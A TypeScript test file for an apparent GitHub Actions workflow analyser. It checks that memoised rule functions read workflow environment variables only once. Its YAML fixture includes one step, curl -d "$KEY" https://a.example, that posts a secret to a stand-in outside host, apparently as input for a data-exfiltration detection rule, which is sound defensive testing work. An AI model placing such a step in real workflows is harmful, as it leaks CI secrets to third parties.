import { expect, test } from "vitest";
import { onceForEach } from "../../../rules/capabilities/once-for-each.ts";
import { readSentData } from "../../../rules/capabilities/github-step/sent-data.ts";
import type { EnvLayer, StepScope } from "../../../rules/capabilities/github-step/scope.ts";
import { scriptsOf } from "../../../rules/capabilities/github-step/step-script.ts";
import { secretsOf } from "../../../rules/capabilities/github-step/step-secrets.ts";
import { readUnsecureCommands } from "../../../rules/capabilities/github-step/unsecure-commands.ts";
import { stepScopesOf } from "../../../rules/capabilities/github-workflow/step-scopes.ts";
import { findWorkflow } from "../../../rules/capabilities/github-workflow/workflow.ts";
import { parseYaml } from "../../../rules/capabilities/data/yaml.ts";

test("work is done once for each key, also where it gives nothing", () => {
  const asked: object[] = [];
  const work = onceForEach((key: object) => void asked.push(key));
  const [one, other] = [{}, {}];
  for (const key of [one, one, other, one]) work(key);
  expect(asked).toEqual([one, other]);
});

const WORKFLOW = `on: push
env: { KEY: "\${{ secrets.KEY }}" }
jobs:
  a: { env: { A: b }, steps: [{ run: curl -d "$KEY" https://a.example }, { run: make $KEY }] }
  b: { env: { A: b }, steps: [{ run: make }, { run: make }] }
`;

/** The workflow's jobs, and how often the entries of its own `env` were gone through. */
function countedScopes(): { scopes: StepScope[]; count: () => number } {
  let count = 0;
  const scopes = stepScopesOf(findWorkflow(parseYaml(new TextEncoder().encode(WORKFLOW), 10_000)));
  const [shared = []] = scopes[0]?.env ?? [];
  const counted: EnvLayer = new Proxy(shared, {
    get: (layer, key) => {
      if (key === "0") count += 1;
      return Reflect.get(layer, key) as unknown;
    },
  });
  return {
    scopes: scopes.map((scope) => ({ ...scope, env: [counted, ...scope.env.slice(1)] })),
    count: () => count,
  };
}

test("all jobs have the workflow's variables in one list", () => {
  const [a, b] = stepScopesOf(findWorkflow(parseYaml(new TextEncoder().encode(WORKFLOW), 10_000)));
  expect(a?.env[0]).toBe(b?.env[0]);
});

test.each<{ what: string; read: (scope: StepScope) => unknown; times: number }>([
  {
    what: "variables of scripts",
    read: (scope) => scope.steps.map((step) => scriptsOf(scope, step)),
    times: 1,
  },
  {
    what: "secrets of steps",
    read: (scope) => scope.steps.map((step) => secretsOf(scope, step, [])),
    times: 1,
  },
  { what: "commands that are allowed", read: readUnsecureCommands, times: 1 },
  // For the scripts, the secrets and the hosts that it names.
  { what: "data that is sent", read: readSentData, times: 3 },
])("the workflow's variables are read once for all steps: $what", ({ read, times }) => {
  const { scopes, count } = countedScopes();
  scopes.forEach(read);
  expect(count()).toBe(times);
});

test("a copy of a key is another one, and what is known of a key is no part of it", () => {
  const lengthOf = onceForEach(({ text }: { readonly text: string }) => text.length);
  const key = { text: "one" };
  expect(lengthOf(key)).toBe(3);
  expect(lengthOf({ ...key, text: "three" })).toBe(5);
  expect(JSON.stringify(key)).toBe('{"text":"one"}');
});
